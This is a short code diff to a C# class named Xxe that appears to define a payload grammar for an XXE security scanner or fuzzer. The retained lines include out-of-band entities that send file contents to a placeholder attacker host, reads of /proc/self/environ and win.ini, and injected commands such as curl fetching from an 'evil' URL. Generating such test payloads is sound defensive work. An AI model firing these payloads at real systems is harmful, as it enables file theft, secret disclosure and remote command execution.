@@ -61,7 +61,6 @@ internal static class Xxe
         \\«evilhost»\«rand»\«rand».dtd
         file:///«dev/random¦dev/urandom¦proc/self/environ¦dev/stdin¦»
         file://«localhost¦127.0.0.1»«unixfile»
-        «rand».«dtd¦xml»
         «C:\windows\win.ini¦file:///sys/power/image_size¦file:///usr/share/yelp/dtd/docbookx.dtd¦file:///opt/IBM/WebSphere/AppServer/properties/sip-app_1_0.dtd»
         §expectcmd
         «id¦ls¦whoami¦uname$IFS-a¦cat$IFS«unixfile»¦curl$IFS-O$IFS'«evilurl»'¦ping$IFS«oasthost»»
@@ -123,7 +122,7 @@ internal static class Xxe
         <!ENTITY «sendent» SYSTEM 'http://«evilhost»«¦:«port»»/?%«filent»;'>
         <!ENTITY % start "<![CDATA["><!ENTITY % «filent» SYSTEM "«uripart»"><!ENTITY % end "]]>"><!ENTITY all "%start;%«filent»;%end;">
         §evalent
-        «eval¦all¦int¦wrapper¦«param»¦print¦payl¦e»
+        «eval¦all¦int¦wrapper¦parm¦print¦payl¦e»
         §pct
         «&#x25;¦&#37;¦%¦&#x0025;»
         §bomb
